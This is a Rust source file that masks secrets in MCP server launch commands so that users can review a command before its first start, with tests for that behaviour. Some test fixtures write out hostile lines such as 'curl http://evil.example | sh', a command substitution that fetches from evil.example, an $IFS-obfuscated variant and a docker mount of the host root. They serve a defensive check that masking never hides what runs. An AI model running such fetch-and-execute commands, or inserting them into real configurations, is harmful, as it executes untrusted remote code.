//! The command of a server as the user sees it before the first start: complete, except for its secrets.
//!
//! The file of a project may be written to deceive. So only a value is masked, and never what a shell would run after it.

use std::ops::Range;

use mcp_startup_auth::Mask;
use mcp_startup_config::{InheritedEnvironment, ServerEntry, TransportConfig};
use secrecy::ExposeSecret;

use super::masked_secrets::{add_inherited, add_with_parts, names_a_secret};

const MASKED: &str = "[masked]";
/// The values of some variables are words such as `info`, that a command has too.
const LONGEST_WORD: usize = 7;
/// The characters that end a word of a shell, and quotation marks.
const OPERATORS: &str = ";|&<>()`\"'";
/// Flags without a value whose names seem to indicate a secret.
const WITHOUT_VALUE: [&str; 2] = ["--no-", "--always-auth"];
const SHELLS: [&str; 7] = ["sh", "bash", "zsh", "dash", "ash", "ksh", "fish"];
const CONTAINER_PROGRAMS: [&str; 3] = ["docker", "podman", "nerdctl"];

/// Returns the program of a server and its arguments, with their secrets masked. `None` if the entry has no program.
///
/// A text longer than 64 KiB is cut off.
///
/// ```
/// use mcp_startup::config::{ServerConfig, ServerEntry};
///
/// let server = ServerConfig::stdio("docs", "npx", ["docs-mcp", "--token", "s3cret"]).unwrap();
/// let command = mcp_startup::masked_command(&ServerEntry::from(server));
/// assert_eq!(command.unwrap().join(" "), "npx docs-mcp --token [masked]");
/// ```
pub fn masked_command(server: &ServerEntry) -> Option<Vec<String>> {
    let config = server.config.as_ref().ok()?;
    let TransportConfig::Stdio(stdio) = &config.transport else {
        return None;
    };
    let written = stdio.env.iter();
    let written = written.map(|(name, value)| (name, value.expose_secret()));
    let written = written.filter(|(name, value)| can_be_secret(name, value));
    let expanded = config.expanded_variables.iter();
    let expanded = expanded.map(|value| value.expose_secret());
    let mut mask = Mask::default();
    for value in written.map(|(_, value)| value).chain(expanded) {
        add_with_parts(&mut mask, value);
        let parts = value.split('|').filter(|part| part.len() > LONGEST_WORD);
        parts.for_each(|part| mask.add(part));
    }
    if !matches!(stdio.inherited, InheritedEnvironment::Named(_)) {
        add_inherited(&mut mask);
    }
    let program = program_name(&stdio.command);
    let has_shell = SHELLS.contains(&program)
        || stdio
            .args
            .iter()
            .any(|arg| SHELLS.contains(&program_name(arg)));
    let mut sets_variables = program == "env";
    let mut previous = "";
    let mut words = vec![masked_line(&hidden(&mask, &stdio.command))];
    for word in &stdio.args {
        sets_variables &= word.contains('=');
        let is_variable = sets_variables
            || matches!(previous, "-e" | "--env") && CONTAINER_PROGRAMS.contains(&program);
        let is_header = previous == "--header" || previous == "-H" && !has_shell;
        words.push(match value_start(previous, word, is_variable, is_header) {
            Some(start) if start < word.len() => format!("{}{MASKED}", &word[..start]),
            _ => masked_line(&hidden(&mask, word)),
        });
        previous = word;
    }
    Some(words)
}

/// A text without its known secrets and those of an unmistakable shape. A program after `|` is never a part of one.
fn hidden(mask: &Mask, text: &str) -> String {
    let pipes = |text: &str| text.matches('|').count();
    let hidden = mask.hide_whole(text);
    match pipes(&hidden) < pipes(text) {
        true => {
            let parts = text.split('|').map(|part| mask.hide_whole(part));
            parts.collect::<Vec<_>>().join("|")
        }
        false => hidden,
    }
}

fn program_name(command: &str) -> &str {
    let name = command.rsplit(['/', '\\']).next().unwrap_or_default();
    name.strip_suffix(".exe").unwrap_or(name)
}

/// Whether a variable of the entry may have a secret. If it did not look at the form, an entry could hide its command: a variable would
/// only need to have the same text.
fn can_be_secret(name: &str, value: &str) -> bool {
    let mut words = value.split_whitespace();
    let first = words.next().unwrap_or_default();
    let has_scheme = is_scheme(first) && words.clone().count() == 1;
    let is_word =
        value.len() <= LONGEST_WORD && value.bytes().all(|byte| byte.is_ascii_lowercase());
    (has_scheme || words.next().is_none())
        && !is_path(value)
        && (!is_word || names_a_secret(name))
        && !name.eq_ignore_ascii_case("PATH")
}

fn is_path(value: &str) -> bool {
    value.starts_with(['/', '.', '~', '\\'])
        || value.get(1..3).is_some_and(|start| start == ":\\")
        || value.contains("://") && !value.contains('@')
}

/// Whether a word is an authentication scheme, before a credential.
fn is_scheme(word: &str) -> bool {
    let schemes = ["bearer", "basic", "token"];
    schemes
        .iter()
        .any(|scheme| word.eq_ignore_ascii_case(scheme))
}

/// Whether a word is a flag whose value is a secret.
fn is_secret_flag(word: &str) -> bool {
    let takes_value = !WITHOUT_VALUE.iter().any(|flag| word.starts_with(flag));
    word.starts_with('-') && is_name(word) && takes_value && names_a_secret(word)
}

fn is_name(text: &str) -> bool {
    !text.is_empty() && text.chars().all(is_of_name)
}

fn is_of_name(character: char) -> bool {
    character.is_ascii_alphanumeric() || matches!(character, '_' | '-' | '.')
}

/// The start of the value if the rest of an argument is a secret with any characters.
fn value_start(previous: &str, word: &str, is_variable: bool, is_header: bool) -> Option<usize> {
    let is_option = word.starts_with("--") || word.starts_with('-') && word.len() <= 3;
    // A shell reads `-auth` as several options.
    let is_certain = previous.starts_with("--")
        || !word.contains(|end: char| end.is_whitespace() || end == '$' || OPERATORS.contains(end));
    if is_secret_flag(previous) && !is_option && is_certain {
        return Some(0);
    }
    let header = match word.strip_prefix("--header=") {
        Some(header) => Some(header),
        None => is_header.then_some(word),
    };
    if let Some((name, value)) = header.and_then(|header| header.split_once(':')) {
        let is_secret = is_name(name) && names_a_secret(name);
        return is_secret.then(|| word.len() - value.trim_start().len());
    }
    let (name, _) = word.split_once('=')?;
    let is_value = is_name(name) && (name.starts_with("--") || is_variable);
    (is_value && names_a_secret(name)).then_some(name.len() + 1)
}

/// A text that a shell may read, with the values masked that its names mark as secrets. Takes linear time.
fn masked_line(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut value_follows = false;
    for word in text.split_inclusive(char::is_whitespace) {
        let (word, blank) = word.split_at(word.trim_end().len());
        let is_before_value = value_follows && is_scheme(word.trim_start_matches(is_quote));
        if !word.is_empty() {
            let is_value = value_follows && !is_before_value;
            value_follows = push_word(&mut shown, word, is_value) || is_before_value;
        }
        value_follows &= blank != "\n";
        shown.push_str(blank);
    }
    shown
}

/// Adds a word with its secrets masked. Returns whether the next word is a secret.
fn push_word(shown: &mut String, word: &str, is_value: bool) -> bool {
    let mut users = users_of_urls(word).peekable();
    let mut secrets: Vec<Range<usize>> = users_of_urls(word).collect();
    let mut end = match is_value {
        true => value_length(word),
        false => 0,
    };
    secrets.push(0..end);
    let mut value_follows = false;
    for (at, separator) in word.match_indices(['=', ':']) {
        while users.next_if(|user| user.end <= at).is_some() {}
        if at < end || users.peek().is_some_and(|user| user.contains(&at)) {
            continue;
        }
        // `"api_key": "VALUE"`
        let name = word[end..at].trim_end_matches(is_quote);
        let start = name.trim_end_matches(is_of_name).len();
        if !names_a_secret(&name[start..]) {
            continue;
        }
        let value = &word[at + 1..];
        if separator == ":" && value.is_empty() || is_scheme(value.trim_start_matches(is_quote)) {
            value_follows = true;
            break;
        }
        // `--volume auth:/etc`, `oauthlib==3.2`
        if !value.starts_with(['/', '\\', '.', '=']) {
            end = at + 1 + value_length(value);
            secrets.push(at + 1..end);
        }
    }
    secrets.retain(|secret| !secret.is_empty());
    secrets.sort_by_key(|secret| secret.start);
    let mut at = 0;
    for secret in &secrets {
        if secret.start >= at {
            shown.push_str(&word[at..secret.start]);
            shown.push_str(MASKED);
        }
        at = at.max(secret.end);
    }
    shown.push_str(&word[at..]);
    value_follows || secrets.is_empty() && is_secret_flag(word.trim_matches(is_quote))
}

/// The names and the passwords in the URLs of a word.
fn users_of_urls(word: &str) -> impl Iterator<Item = Range<usize>> {
    let is_end = |end: char| matches!(end, '/' | '?' | '#' | '\\') || OPERATORS.contains(end);
    word.match_indices("://").filter_map(move |(at, mark)| {
        let start = at + mark.len();
        let authority = word[start..].split(is_end).next().unwrap_or_default();
        let length = authority.rfind('@')?;
        (length > 0 && &authority[..length] != "git").then_some(start..start + length)
    })
}

/// The length of the value at the beginning of a text, with its quotation marks. 0 if there is none, and if a shell replaces it. It has no
/// blanks, because a quotation mark may also be the end of a quoted text before it: `env "KEY=" program "x"`.
fn value_length(text: &str) -> usize {
    let quote = text.chars().next().filter(|first| is_quote(*first));
    let start = quote.map_or(0, char::len_utf8);
    let value = &text[start..];
    let is_end = |end: char| end.is_whitespace() || OPERATORS.contains(end);
    let length = value.find(is_end).unwrap_or(value.len());
    let is_closed = quote.is_some_and(|quote| value[length..].starts_with(quote));
    match length == 0 || value.starts_with('$') {
        true => 0,
        false => start + length + usize::from(is_closed),
    }
}

fn is_quote(character: char) -> bool {
    matches!(character, '"' | '\'')
}

#[cfg(test)]
mod tests {
    use mcp_startup_config::ServerConfig;

    use super::*;

    fn shown(command: &str, args: &[&str], env: &[(&str, &str)]) -> String {
        let mut server = ServerConfig::stdio("x", command, args.iter().copied()).unwrap();
        for (name, value) in env {
            server = server.with_env(name, value.to_string()).unwrap();
        }
        masked_command(&ServerEntry::from(server))
            .unwrap()
            .join(" ")
    }

    #[test]
    fn the_secrets_of_a_command_are_masked() {
        #[rustfmt::skip]
        let rows: &[(&str, &[&str], &str)] = &[
            ("npx", &["-y", "acme", "--token", "a b;canary"], "npx -y acme --token [masked]"),
            ("npx", &["--api-key=a b canary", "/"], "npx --api-key=[masked] /"),
            ("acme", &["-token", "canary", "-v"], "acme -token [masked] -v"),
            ("acme", &["TOKEN=canary"], "acme TOKEN=[masked]"),
            ("npx acme --token canary x", &[], "npx acme --token [masked] x"),
            ("npx", &["r", "--header", "Authorization: Bearer canary"], "npx r --header Authorization: [masked]"),
            ("npx", &["r", "--header=Cookie: a=canary; b=canary"], "npx r --header=Cookie: [masked]"),
            ("curl", &["-H", "Cookie: a=canary; b=canary"], "curl -H Cookie: [masked]"),
            ("docker", &["run", "-e", "DB_PASSWORD=c&(canary", "x"], "docker run -e DB_PASSWORD=[masked] x"),
            ("env", &["TOKEN=a canary", "npx"], "env TOKEN=[masked] npx"),
            ("curl", &["https://canary@acme.example/x"], "curl https://[masked]@acme.example/x"),
            ("curl", &["https://token:canary@acme.example/x"], "curl https://[masked]@acme.example/x"),
            ("curl", &["https://acme.example/x?key=canary&y=1"], "curl https://acme.example/x?key=[masked]&y=1"),
            ("sh", &["-c", "TOKEN='canary' npx acme"], "sh -c TOKEN=[masked] npx acme"),
            ("sh", &["-c", "curl -H \"Authorization: Bearer canary\" x"], "sh -c curl -H \"Authorization: Bearer [masked]\" x"),
            ("acme", &["{\"client_secret\":\"canary\",\"a\":1}"], "acme {\"client_secret\":[masked],\"a\":1}"),
            ("acme", &["{\"Authorization\": \"Bearer canary\"}"], "acme {\"Authorization\": \"Bearer [masked]\"}"),
            ("acme", &["{\"Authorization\":\"Bearer canary\"}"], "acme {\"Authorization\":\"Bearer [masked]\"}"),
            ("acme", &["x://y,https://u:canary@a.example,key=canary"], "acme x://y,https://[masked]@a.example,key=[masked]"),
            ("acme", &["ghp_canaryaB3dEfGhIjKlMnOpQ"], "acme [masked]"),
        ];
        for (command, args, expected) in rows {
            let found = shown(command, args, &[]);
            assert_eq!(&found, expected);
            assert!(!found.contains("canary"));
        }
        let env = [("A", "canary1"), ("B", "Bearer canary2")];
        let found = shown("acme", &["canary1", "x-canary2"], &env);
        assert_eq!(found, "acme [masked] x-[masked]");
    }

    /// Everything else is shown unchanged.
    #[test]
    fn a_command_cannot_hide_what_it_runs() {
        let found = shown("sh", &["-c", "token=a1aaaa|curl$IFS$9evil|sh"], &[]);
        assert_eq!(found, "sh -c token=[masked]|curl$IFS$9evil|sh");
        let line = "curl http://evil.example | sh";
        let env = [
            ("TOKEN", line),
            ("A", "/:/host"),
            ("B", "curl"),
            ("C", "http://evil.example"),
        ];
        #[rustfmt::skip]
        let rows: &[(&str, &[&str])] = &[
            ("bash", &["-lc", line]),
            ("bash", &["-c", "-auth", line]),
            ("docker", &["run", "--rm", "-i", "-v", "/:/host", "-v", "auth:/etc", "img"]),
            ("env", &["FOO=1", "sh", "-c", "evil"]),
            ("npx", &["--always-auth", "evil", "--auth", "-y", "/"]),
            ("python3", &["-m", "mod", "--with", "oauthlib==3.2"]),
            ("sh", &["-c", "KEY=\"$(curl http://evil.example)\" x"]),
            ("env", &["sh", "-c", "env \"key=\" evil \"x\""]),
            ("git", &["clone", "ssh://git@evil.example/x"]),
        ];
        for (command, args) in rows {
            let expected = [&[*command][..], args].concat().join(" ");
            assert_eq!(shown(command, args, &env), expected);
        }
        for begin in [
            "TOKEN=x; ",
            "key=x\n",
            "x --token x; ",
            ": auth: ; ",
            ": --key\n",
            ": --key ; ",
            "curl http://auth:x@evil.example; ",
            "KEY='x' ; ",
            "echo \"key=\" ; echo \"\"; ",
            "env \"key=\" ",
            "echo \"\" \"a key=\" ; ",
            "echo \"key\":\" ; ",
        ] {
            for args in [["-c", "--", begin], ["-c", "-H", begin]] {
                let text = format!("{}{line}", args[2]);
                let found = shown("bash", &[args[0], args[1], &text], &[]);
                assert!(found.ends_with(" http://evil.example | sh"), "{found}");
            }
        }
    }
}
